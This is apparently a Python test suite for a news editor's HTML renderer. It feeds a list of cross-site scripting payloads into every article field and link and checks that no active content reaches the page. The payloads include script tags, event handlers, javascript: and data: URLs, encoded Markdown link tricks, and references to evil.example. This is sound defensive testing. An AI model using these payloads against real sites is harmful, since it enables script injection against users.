"""No active content reaches the page, whatever is typed in the body or the fields."""

from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from editor_app.render.context import (
    Crop,
    PageContext,
    PhotoImages,
    RelatedStory,
    Rendition,
    StaticImageResolver,
    TaggedOfficial,
)
from editor_app.render.page import PageRenderer, stylesheet_path

from .active import active_content
from .support import own_article

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<p style="background:expression(alert(1))">x</p>',
    '<div style="width: expression(alert(1));">x</div>',
    '<a href="javascript:alert(1)">x</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--<script>alert(1)</script>-->",
    "</script><script>alert(1)</script>",
    "<base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#x3A;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[x](https://baolaocai.vn "t\\" onclick=\\"alert(1)")',
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<http://example.com/" onmouseover="alert(1)>',
    "<mailto:x@example.com?body=<script>>",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](photo:5eed0000-0000-4000-8000-000000000002)',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "{: onclick=alert(1) }",
    "# <img src=x onerror=alert(1)>",
    "| <script>x</script> | b |\n|---|---|\n| 1 | 2 |",
]
FIELD_PAYLOADS = [p for p in PAYLOADS if "\n" not in p]


def hostile(context: PageContext, payload: str) -> PageContext:
    """The article with `payload` in the body and in every field a person can type."""
    a = context.article
    photos = [replace(p, caption=payload, credit=payload, alt_text=payload) for p in a.photos]
    article = replace(
        a,
        headline=f"Tiêu đề {payload}",
        sapo=f"Sapo {payload}",
        body=f"Đoạn mở đầu.\n\n{payload}\n\nĐoạn giữa {payload} cuối.\n\n{a.body}",
        keywords=[payload, "giao thông"],
        byline=payload,
        location=payload,
        photos=photos,
    )
    images = StaticImageResolver(
        {
            p.id: PhotoImages(
                (
                    Rendition("images/x-800.jpg", 800, 533),
                    Rendition("images/x.webp", 800, 533, "webp"),
                ),
                (Crop("16:9", "images/x-169.jpg", 1200, 675),),
            )
            for p in photos
        }
    )
    return replace(
        context,
        article=article,
        officials=(TaggedOfficial(payload, (payload,), url="javascript:alert(1)"),),
        same_section=(
            RelatedStory(payload, "javascript:alert(1)", payload),
            RelatedStory(payload, "https://baolaocai.vn/ok/", payload, " JAVASCRIPT:alert(1)"),
        ),
        may_interest=(RelatedStory(payload, "data:text/html,x", payload),),
        images=images,
    )


@pytest.fixture(scope="module")
def renderer() -> PageRenderer:
    return PageRenderer()


@pytest.fixture(scope="module")
def css() -> str:
    return stylesheet_path().read_text(encoding="utf-8")


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("mode", ["preview", "export"])
def test_no_active_content(renderer: PageRenderer, css: str, payload: str, mode: str) -> None:
    page = renderer.render(hostile(own_article(), payload), mode)  # type: ignore[arg-type]
    assert active_content(page.html, css) == []


def test_the_checker_does_find_active_content() -> None:
    assert active_content('<a href=" jav&#x09;ascript:alert(1)">x</a>')
    assert active_content("<img src=x onerror=alert(1)>")
    assert active_content('<p style="color:red">x</p>')
    assert active_content("<script>alert(1)</script>")
    assert active_content('<script type="application/ld+json">{"a": "</script>"}</script>')
    assert active_content("<svg></svg>")


def test_raw_html_shows_as_text_and_links_lose_bad_urls(renderer: PageRenderer) -> None:
    context = own_article()
    body = "<script>alert(1)</script>\n\n[a](javascript:alert(1)) [b](https://laocai.gov.vn/)"
    page = renderer.render(replace(context, article=replace(context.article, body=body)))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.html
    assert "<a>a</a>" in page.html
    assert '<a href="https://laocai.gov.vn/" rel="noopener noreferrer nofollow">b</a>' in page.html


DANGEROUS = st.sampled_from(
    [*"<>\"'&=/ \n`[]()!:;", "script", "javascript:", "onerror", "svg", "img", "&#", "x"]
)


SHARED = PageRenderer()


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(DANGEROUS, max_size=40).map("".join))
def test_no_active_content_from_generated_text(text: str) -> None:
    page = SHARED.render(hostile(own_article(), text), "export")
    assert active_content(page.html) == []
